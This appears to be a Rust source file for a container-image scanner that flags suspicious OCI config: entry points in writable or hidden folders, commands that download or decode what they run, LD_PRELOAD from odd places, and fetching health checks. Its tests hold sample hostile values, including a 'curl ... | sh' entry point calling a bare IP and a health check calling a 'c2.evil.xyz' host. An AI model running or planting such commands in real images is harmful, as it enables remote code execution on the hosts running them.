//! Reads the image config for what it starts and what it loads into every program.
//!
//! - Sees: an entry point or command in `/tmp`, `/dev/shm`, `/var/tmp` or a hidden folder; one that decodes or downloads
//!   what it runs; `LD_PRELOAD` from such a place; a health check or `ONBUILD` that fetches from elsewhere; a history that
//!   does not fit the layers; fields of the wrong type.
//! - Misses: what the started script does (content detectors); preloads set by scripts.
//! - False alarms: allocators and tracing agents preload from `/usr/lib`: no finding. A history that does not fit is
//!   common for squashed and hand-made images: a fact.
//! - Source: OCI image-spec v1.1 `config.md`; ATT&CK T1574.006, T1036.005, T1105.

use model::{Category, Confidence, ImageConfig, Location, Maturity, Severity, Weight};

use super::{About, ConfigDetector, Match, history_facts};

pub(crate) const DETECTOR: ConfigDetector = ConfigDetector {
    about: About {
        id: "config-facts",
        title: "Unusual image config",
        category: Category::Backdoor,
        weight: Weight::Fact,
        severity: Severity::Info,
        confidence: Confidence::Medium,
        maturity: Maturity::Stable,
        techniques: &["T1574.006", "T1036.005", "T1105"],
    },
    inspect,
};

fn inspect(config: &ImageConfig) -> Vec<(Location, Match)> {
    let mut findings = Vec::new();
    let mut add = |field: String, summary: String, weight: Weight, severity: Severity| {
        let mut found = Match::new(summary, None);
        (found.weight, found.severity) = (Some(weight), Some(severity));
        findings.push((Location::Config { field }, found));
    };
    for (field, command) in [("config.Entrypoint", &config.entrypoint), ("config.Cmd", &config.cmd)] {
        let line = shown(command);
        if let Some(program) = command.iter().take(4).find(|word| is_odd_place(word)) {
            add(field.to_owned(), format!("starts {program}"), Weight::Sign, Severity::Medium);
        }
        if history_facts::decodes_into_shell(&line) {
            add(field.to_owned(), format!("decodes what it runs: {line}"), Weight::Sign, Severity::High);
        } else if history_facts::fetches(&line) && history_facts::pipes_into_shell(&line) {
            add(field.to_owned(), format!("downloads what it runs: {line}"), Weight::Sign, Severity::High);
        }
    }
    for (index, entry) in config.env.iter().enumerate() {
        let Some(libraries) = entry.strip_prefix("LD_PRELOAD=").or_else(|| entry.strip_prefix("LD_AUDIT=")) else {
            continue;
        };
        if let Some(library) = libraries.split([':', ' ']).find(|library| is_odd_place(library)) {
            let summary = format!("every program loads {library}");
            add(format!("config.Env[{index}]"), summary, Weight::Sign, Severity::High);
        }
    }
    let check = shown(&config.healthcheck);
    if history_facts::fetches(&check) {
        let weight = if history_facts::pipes_into_shell(&check) { Weight::Sign } else { Weight::Fact };
        add("config.Healthcheck.Test".to_owned(), format!("the health check fetches: {check}"), weight, Severity::Low);
    }
    for (index, step) in config.on_build.iter().enumerate().take(100) {
        if history_facts::fetches(step) {
            let summary = format!("images built on this one fetch: {step}");
            add(format!("config.OnBuild[{index}]"), summary, Weight::Fact, Severity::Low);
        }
    }
    let steps_with_layer = config.history.iter().filter(|step| !step.empty_layer).count();
    let layers = config.diff_ids.len();
    if !config.history.is_empty() && steps_with_layer != layers {
        let summary = format!("{layers} layers, but the history tells of {steps_with_layer}");
        add("history".to_owned(), summary, Weight::Fact, Severity::Info);
    }
    for field in config.oddities.iter().take(16) {
        add(
            field.clone(),
            format!("{field} is not of the type that the specification asks for"),
            Weight::Fact,
            Severity::Info,
        );
    }
    findings
}

/// The command as one line, bounded.
fn shown(command: &[String]) -> String {
    let line = command.iter().take(64).map(String::as_str).collect::<Vec<_>>().join(" ");
    model::text::shortened(&line, 4096).into_owned()
}

/// A program below a folder that anybody may write to, or that `ls` does not show.
fn is_odd_place(word: &str) -> bool {
    let Some((folder, name)) = word.rsplit_once('/') else { return false };
    let plain =
        word.starts_with('/') && !word.contains("://") && !word.contains(char::is_whitespace) && !name.is_empty();
    let shared = ["/tmp", "/var/tmp", "/dev/shm", "/dev", "/run/shm"];
    // Folders of tools in a home are hidden by habit.
    let by_habit = [
        ".local",
        ".cargo",
        ".nvm",
        ".venv",
        ".pyenv",
        ".rbenv",
        ".npm-global",
        ".dotnet",
        ".bun",
        ".deno",
        ".yarn",
        ".rustup",
        ".sdkman",
        ".asdf",
        ".pixi",
        ".linuxbrew",
        ".next",
        ".output",
        ".nuxt",
        ".composer",
        ".go",
    ];
    let hidden = |part: &str| part.len() > 1 && part.starts_with('.') && part != ".." && !by_habit.contains(&part);
    plain
        && (shared.iter().any(|place| folder == *place || folder.starts_with(&format!("{place}/")) && *place != "/dev")
            || folder.split('/').any(hidden)
            || hidden(name))
        && !matches!(word, "/dev/null" | "/dev/stdin" | "/dev/stdout" | "/dev/stderr" | "/dev/tty" | "/dev/init")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(config: &ImageConfig) -> Vec<(String, Option<Weight>)> {
        inspect(config).into_iter().map(|(_, found)| (found.summary, found.weight)).collect()
    }

    fn starting(command: &[&str]) -> ImageConfig {
        ImageConfig { entrypoint: command.iter().map(|&word| word.to_owned()).collect(), ..Default::default() }
    }

    #[test]
    fn programs_in_odd_places_are_signs() {
        for program in ["/tmp/.x/run", "/dev/shm/k", "/usr/lib/.cache/java", "/root/.sshd"] {
            assert_eq!(found(&starting(&[program])), [(format!("starts {program}"), Some(Weight::Sign))]);
        }
        for program in
            ["/usr/sbin/nginx", "/app/.venv/bin/python", "./run.sh", "/root/.cargo/bin/x", "docker-entrypoint.sh"]
        {
            assert_eq!(found(&starting(&[program])), [], "{program}");
        }
        assert_eq!(found(&starting(&["tail", "-f", "/dev/null"])), []);
    }

    #[test]
    fn a_command_that_fetches_what_it_runs() {
        let command = ["/bin/sh", "-c", "curl -s http://45.9.148.1/x | sh"];
        assert_eq!(
            found(&starting(&command)),
            [(format!("downloads what it runs: {}", command.join(" ")), Some(Weight::Sign))]
        );
    }

    #[test]
    fn health_checks_of_the_own_service_are_normal() {
        let check = |url: &str| ImageConfig {
            healthcheck: vec!["CMD-SHELL".to_owned(), format!("curl -f {url} || exit 1")],
            ..Default::default()
        };
        assert_eq!(found(&check("http://localhost:8080/health")), []);
        assert_eq!(found(&check("http://c2.evil.xyz/ping")).len(), 1);
    }

    #[test]
    fn preloads_count_by_their_place() {
        let with = |entry: &str| ImageConfig { env: vec![entry.to_owned()], ..Default::default() };
        assert_eq!(found(&with("LD_PRELOAD=/usr/lib/libjemalloc.so.2")), []);
        assert_eq!(
            found(&with("LD_PRELOAD=/tmp/x.so")),
            [("every program loads /tmp/x.so".to_owned(), Some(Weight::Sign))]
        );
    }

    #[test]
    fn a_history_that_does_not_fit_is_a_fact() {
        let config = ImageConfig {
            history: vec![model::HistoryLine::default()],
            diff_ids: vec![String::new(); 2],
            ..Default::default()
        };
        assert_eq!(found(&config), [("2 layers, but the history tells of 1".to_owned(), Some(Weight::Fact))]);
    }
}
